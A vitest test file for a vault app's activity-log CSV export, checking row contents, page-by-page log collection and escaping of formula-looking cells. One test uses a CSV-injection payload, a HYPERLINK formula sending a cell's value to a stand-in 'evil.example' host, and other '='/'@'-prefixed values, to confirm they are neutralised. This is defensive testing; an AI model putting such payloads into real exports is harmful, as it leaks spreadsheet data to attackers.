import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { SYSTEM_ACTOR } from '../../../src/domain/auditEvents';
import type { LogEntry } from '../../../src/data/audit/auditLog';
import { csvText } from '../../../src/features/import/export/csvExport';
import { ACTIVITY_CSV_COLUMNS, activityCsv, activityCsvRow } from '../../../src/features/activity/activityCsv';
import { collectLog } from '../../../src/features/activity/collectLog';
import type { VaultNames } from '../../../src/features/activity/eventText';
import { MemoryAuditLogRepository } from '../../doubles/memoryAuditLogRepository';

const AT = Date.UTC(2026, 10, 27, 9, 30);
const entries: LogEntry[] = [
  { id: 'e1', at: AT, teamId: 't', actor: { uid: 'eve', email: '=cmd@x.com' }, kind: 'entry.edited', entryId: 'entry-1', parts: ['password'] },
  { id: 'e2', at: AT - 1000, teamId: 't', actor: { uid: 'ana', email: 'ana@x.com' }, kind: 'entry.moved', entryId: 'entry-2', fromGroupId: 'g-1', toGroupId: 'g-2' },
  { id: 'e3', at: AT - 2000, teamId: 't', actor: { uid: 'ana', email: 'ana@x.com' }, kind: 'member.roleChanged', memberUid: 'bob', memberEmail: '+bob@x.com', from: 'view', to: 'admin' },
  { id: 'e4', at: AT - 3000, teamId: 't', actor: SYSTEM_ACTOR, kind: 'invitation.expired', invitationId: 'inv-1', email: '@carl@x.com' },
  { id: 'e5', malformed: 'field "kind" is missing or has the wrong type', at: null },
];

describe('the activity log as CSV', () => {
  it('one row per event: ISO time, actor, kind, a sentence naming no title, and the ids (no names: no titles)', () => {
    expect(entries.map((entry) => activityCsvRow(entry))).toEqual([
      ['2026-11-27T09:30:00.000Z', '=cmd@x.com', 'eve', 'entry.edited', 'changed the password of an entry', 'entry-1', '', '', '', '', ''],
      ['2026-11-27T09:29:59.000Z', 'ana@x.com', 'ana', 'entry.moved', 'moved an entry from a group to a group', 'entry-2', '', 'g-2', '', '', ''],
      ['2026-11-27T09:29:58.000Z', 'ana@x.com', 'ana', 'member.roleChanged', 'changed +bob@x.com’s role from View Only to Admin', '', '', '', '', 'bob', ''],
      ['2026-11-27T09:29:57.000Z', '', 'system', 'invitation.expired', 'expired the invitation of @carl@x.com', '', '', '', '', '', 'inv-1'],
      ['', '', '', 'malformed', 'An event that could not be read (field "kind" is missing or has the wrong type)', '', '', '', '', '', ''],
    ]);
  });

  it('puts the title beside the id of each entry and group the exporter can open, and the id alone for the rest', () => {
    const names: VaultNames = {
      entryTitle: (id) => (id === 'entry-1' ? 'Prod DB' : null),
      groupName: (id) => (id === 'g-2' ? 'Servers' : null),
    };
    const moved = { ...entries[1]!, entryId: 'entry-1' } as LogEntry;
    expect(activityCsvRow(moved, names).slice(4, 9)).toEqual(['moved an entry from a group to a group', 'entry-1', 'Prod DB', 'g-2', 'Servers']);
    // entry-2 is not open (deleted, or not decryptable here): its id alone.
    expect(activityCsvRow(entries[1]!, names).slice(5, 9)).toEqual(['entry-2', '', 'g-2', 'Servers']);
    expect(activityCsvRow(entries[2]!, names).slice(5, 9)).toEqual(['', '', '', '']);
  });

  it('through the export’s writer: a header, and no formula-looking cell starts a cell unescaped, titles included', () => {
    const hostile: VaultNames = { entryTitle: () => '=HYPERLINK("https://evil.example/?"&A1,"Open")', groupName: () => '@SUM(1+1)' };
    const text = activityCsv(entries, csvText, hostile);
    const parsed = Papa.parse<string[]>(text.trimEnd(), { newline: '\r\n' }).data;
    expect(parsed[0]).toEqual([...ACTIVITY_CSV_COLUMNS]);
    expect(parsed[1]?.[1]).toBe("'=cmd@x.com");
    expect(parsed[1]?.[6]).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"Open")`);
    expect(parsed[2]?.[8]).toBe("'@SUM(1+1)");
    expect(parsed[3]?.[4]).toBe('changed +bob@x.com’s role from View Only to Admin');
    expect(parsed[4]?.[4]).toBe("expired the invitation of @carl@x.com");
    for (const cell of parsed.slice(1).flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('collecting the log for an export', () => {
  const seeded = (count: number) => {
    const log = new MemoryAuditLogRepository();
    for (let index = 0; index < count; index += 1) log.seed({ teamId: 't', actor: { uid: 'ana', email: 'a@x' }, kind: 'team.renamed' }, AT + index, `e-${String(index).padStart(4, '0')}`);
    return log;
  };

  it('reads every page of the query, newest first, with its progress', async () => {
    const log = seeded(120);
    const progress: number[] = [];
    const collected = await collectLog(log, { teamId: 't' }, (read) => progress.push(read));
    expect(collected.truncated).toBe(false);
    expect(collected.entries.map((entry) => entry.id)).toEqual(Array.from({ length: 120 }, (_, index) => `e-${String(119 - index).padStart(4, '0')}`));
    expect(progress).toEqual([50, 100, 120]);
  });

  it('stops at its bound of pages and says so', async () => {
    const log = seeded(120);
    const collected = await collectLog(log, { teamId: 't' }, () => undefined, () => false, 2);
    expect(collected).toMatchObject({ truncated: true });
    expect(collected.entries).toHaveLength(100);
    expect(log.queries).toHaveLength(2);
  });
});
